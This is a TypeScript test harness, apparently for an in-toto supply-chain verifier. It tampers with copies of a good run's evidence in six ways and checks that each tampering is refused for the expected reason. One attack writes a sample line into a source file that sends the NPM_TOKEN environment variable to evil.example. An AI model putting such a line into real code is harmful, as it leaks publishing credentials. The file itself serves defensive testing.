// SPDX-License-Identifier: Apache-2.0
// Six ways of cheating a supply chain, tried for real on copies of the evidence of a good run.
import { appendFileSync, cpSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { basename, join } from 'node:path'
import { jsonObject } from '../../intoto/json/json-value.ts'
import type { Link } from '../../intoto/link/link.ts'
import { linkFileName } from '../../intoto/link/link-file-name.ts'
import { encodeRunBinding, type RunBinding } from '../../intoto/link/run-binding.ts'
import type { Failure } from '../../intoto/verification/failure.ts'
import type { Verification } from '../../intoto/verification/verification.ts'
import type { Pipeline } from './pipeline.ts'

const YEAR = 366 * 24 * 60 * 60 * 1000

/** What a good run left behind. */
export interface GoodRun {
  readonly pipeline: Pipeline
  readonly run: RunBinding
  readonly links: Readonly<Record<'build' | 'test', Link>>
  /** A copy of the workspace as the checkout left it. */
  readonly checkedOut: string
  readonly products: readonly string[]
  readonly verify: (attempt: Attempt) => Promise<Verification>
}

/** What is verified: the good run's evidence but for what an attack replaced. */
export interface Attempt {
  readonly layout: string
  readonly links: string
  readonly products: string
}

export interface AttackResult {
  readonly name: string
  readonly refused: boolean
  readonly code: string | undefined
  readonly step: string | undefined
  readonly rule: string | undefined
  readonly artifact: string
  readonly message: string | undefined
  readonly remedy: string | undefined
}

interface Attack {
  readonly name: string
  /** The codes of which one must be among the reasons of the refusal. */
  readonly expected: Failure['code']
  /** Tampers with the attempt; returns what was tampered with. */
  readonly tamper: (good: GoodRun, attempt: Attempt) => Promise<{ artifact: string }>
}

const ATTACKS: readonly Attack[] = [
  {
    name: 'a source file is changed between checkout and build',
    expected: 'TAKES_DIFFERS',
    tamper: async ({ pipeline, checkedOut, run }, { links }) => {
      appendFileSync(join(checkedOut, 'src/index.mjs'), '\nfetch("https://evil.example/?" + process.env.NPM_TOKEN)\n')
      await pipeline.stage('build', ['npm', 'run', 'build'], run, checkedOut, links)
      return { artifact: 'src/index.mjs' }
    }
  },
  {
    name: 'the package is replaced after packaging',
    expected: 'PRODUCT_DIFFERS',
    tamper: async (_good, { products }) => {
      const [file = ''] = _good.products
      const path = join(products, basename(file))
      const bytes = readFileSync(path)
      bytes[bytes.length - 1] = (bytes.at(-1) ?? 0) ^ 1
      writeFileSync(path, bytes)
      return { artifact: basename(file) }
    }
  },
  {
    name: 'the tests are signed by somebody who may not run them',
    expected: 'LINK_THRESHOLD',
    tamper: async ({ pipeline, links: { test } }, { links }) => {
      const name = fileOf(pipeline, 'test')
      const forged = pipeline.sign(test, 'build', links)
      writeFileSync(join(links, name), readFileSync(forged))
      rmSync(forged)
      return { artifact: name }
    }
  },
  {
    name: 'the tests are left out',
    expected: 'LINK_MISSING',
    tamper: async ({ pipeline }, { links }) => {
      const name = fileOf(pipeline, 'test')
      rmSync(join(links, name))
      return { artifact: name }
    }
  },
  {
    name: 'the layout has expired',
    expected: 'LAYOUT_EXPIRED',
    tamper: async ({ pipeline }, { layout }) => {
      pipeline.writeLayout(layout, Date.now() - 2 * YEAR)
      return { artifact: basename(layout) }
    }
  },
  {
    name: 'the tests are those of an earlier run',
    expected: 'LINKS_OF_DIFFERENT_RUNS',
    tamper: async ({ pipeline, links: { test } }, { links }) => {
      const earlier = encodeRunBinding({ id: 'local-000000000001', commit: '0'.repeat(40) })
      const environment = jsonObject({ ...Object.fromEntries(test.environment), run: earlier })
      pipeline.sign({ ...test, environment }, 'test', links)
      return { artifact: fileOf(pipeline, 'test') }
    }
  }
]

/** Tries every attack on a copy of its own; `onResult` is called after each. */
export async function tryAttacks(
  good: GoodRun,
  directory: string,
  onResult: (result: AttackResult) => void
): Promise<AttackResult[]> {
  const results: AttackResult[] = []
  for (const [index, { name, expected, tamper }] of ATTACKS.entries()) {
    const copy = join(directory, `attack-${index + 1}`)
    const { pipeline } = good
    cpSync(pipeline.links, join(copy, 'links'), { recursive: true })
    cpSync(pipeline.products, join(copy, 'product'), { recursive: true })
    cpSync(pipeline.layoutPath, join(copy, 'root.layout'))
    const attempt: Attempt = {
      layout: join(copy, 'root.layout'),
      links: join(copy, 'links'),
      products: join(copy, 'product')
    }
    const { artifact } = await tamper(good, attempt)
    const verification = await good.verify(attempt)
    const result = describeResult(name, expected, artifact, verification)
    results.push(result)
    onResult(result)
  }
  return results
}

function describeResult(
  name: string,
  expected: Failure['code'],
  artifact: string,
  verification: Verification
): AttackResult {
  const failures = verification.outcome === 'failed' ? verification.failures : []
  const failure = failures.find(({ code }) => code === expected)
  return {
    name,
    // A refusal for another reason would show that the attack was not understood.
    refused: failure !== undefined,
    code: failure?.code ?? failures[0]?.code,
    step: failure?.step ?? stepOf(failure),
    rule: failure?.rule,
    artifact,
    message: failure === undefined ? undefined : [failure.message, ...failure.details.slice(0, 2)].join(' '),
    remedy: failure?.hint
  }
}

/** A failure of the whole chain is reported at its end, where the products are. */
function stepOf(failure: Failure | undefined): string | undefined {
  if (failure === undefined) return undefined
  return failure.code === 'PRODUCT_DIFFERS' ? 'package' : '(all)'
}

function fileOf({ layout }: Pipeline, stage: string): string {
  const [keyId] = layout.steps.find(({ name }) => name === stage)?.pubkeys ?? []
  return keyId === undefined ? stage : linkFileName(stage, keyId)
}
